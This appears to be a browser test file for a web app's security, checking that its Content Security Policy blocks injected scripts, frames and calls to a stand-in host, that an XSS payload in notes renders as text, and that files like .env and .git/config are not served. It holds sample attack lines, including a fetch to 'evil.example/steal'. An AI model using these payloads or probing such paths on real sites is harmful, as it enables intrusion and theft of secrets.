import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { dayRow, openingButton } from "../support/screens.ts";
import { expect, test } from "../support/test.ts";

const webRoot = fileURLToPath(new URL("../../../web/dist", import.meta.url));

test("injected scripts, frames and calls elsewhere do nothing in a real browser", async ({ page, trap }) => {
  trap.allow(/Content Security Policy|violates|Refused|blocked/i);
  await page.goto("/auth");
  await page.evaluate(() => {
    const broken: string[] = [];
    Object.assign(window, { broken });
    document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
    const add = (tag: string, attributes: Record<string, string>, text = "") => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    add("script", {}, "document.title = 'run';");
    add("script", { src: "https://evil.example/x.js" });
    add("script", { src: "data:text/javascript,document.title='run'" });
    add("button", { onclick: "document.title = 'run'" }).click();
    add("iframe", { src: "https://evil.example/" });
    add("object", { data: "https://evil.example/x.swf" });
    add("base", { href: "https://evil.example/" });
    fetch("https://evil.example/steal").catch(() => {});
    // The test's own evaluate may use eval; a task of the page may not.
    setTimeout(() => new Function("document.title = 'run'")());
  });
  const directives = () => page.evaluate(() => [...new Set((window as unknown as { broken: string[] }).broken)].sort());
  await expect
    .poll(directives)
    .toEqual([
      "base-uri",
      "connect-src",
      "frame-src",
      "object-src",
      "script-src",
      "script-src-attr",
      "script-src-elem",
    ]);
  const after = await page.evaluate(() => ({
    title: document.title,
    base: document.baseURI,
  }));
  expect(after.title).not.toBe("run");
  expect(after.base).not.toContain("evil");
});

test("the policy of every page allows no inline script and no other host", async ({ request }) => {
  for (const path of ["/", "/auth", "/api/docs", "/csv-export"]) {
    const policy = (await request.get(path)).headers()["content-security-policy"] ?? "";
    expect(policy, path).toContain("default-src 'self'");
    expect(policy, path).toContain("script-src 'self';");
    expect(policy.replace("style-src 'self' 'unsafe-inline'", ""), path).not.toMatch(/unsafe|\*|https?:/);
  }
});

test("notes that hold markup are shown as text", async ({ page, skier }) => {
  const notes = "<img src=x onerror=\"document.title='run'\"><b>bold</b>";
  await skier.logDay({ notes });
  await page.goto("/");
  await openingButton(dayRow(page, "Alta")).click();
  await expect(page.getByRole("dialog").getByText(notes)).toBeVisible();
  expect(await page.title()).not.toBe("run");
});

test("neither the repository, the database, the photos nor a source map is served", async ({ request, server }) => {
  const all = readdirSync(server.dataDir, { recursive: true, encoding: "utf8" });
  // One photo is like all that the journeys store.
  const isPhoto = (name: string) => name.startsWith("photos/");
  const stored = [...all.filter((name) => !isPhoto(name)), ...all.filter(isPhoto).slice(0, 5)];
  expect(stored.length).toBeGreaterThan(0);
  const paths = [
    ...[".git/HEAD", ".git/config", ".env", ".npmrc", "package.json", "package-lock.json", "tsconfig.json", "main.js"],
    ...[
      "firn.db",
      "data/firn.db",
      "drizzle/0000.sql",
      "src/main.ts",
      "node_modules/hono/package.json",
      "server/dist/main.js",
    ],
    // The app's code of earlier builds is served.
    ...stored.filter((name) => !name.startsWith("assets/")),
    ...stored.map((name) => `data/${name}`),
  ];
  for (const path of paths) {
    const response = await request.get(`/${path}`);
    const isPage =
      response.headers()["content-type"]?.startsWith("text/html") && (await response.text()).includes('id="root"');
    // Two segments below photos are a photo's address, which needs a session.
    const refused = path.startsWith("photos/") ? [401, 404] : [404];
    expect(refused.includes(response.status()) || isPage, path).toBe(true);
  }
});

test("the build holds no source map, and no file points to one", () => {
  const files = readdirSync(webRoot, { recursive: true, encoding: "utf8" });
  expect(files.filter((name) => name.endsWith(".js")).length).toBeGreaterThan(0);
  expect(files.filter((name) => name.endsWith(".map"))).toEqual([]);
  for (const name of files.filter((one) => /\.(js|css)$/.test(one))) {
    expect(readFileSync(join(webRoot, name), "utf8"), name).not.toMatch(/[#@] ?sourceMappingURL=/);
  }
});
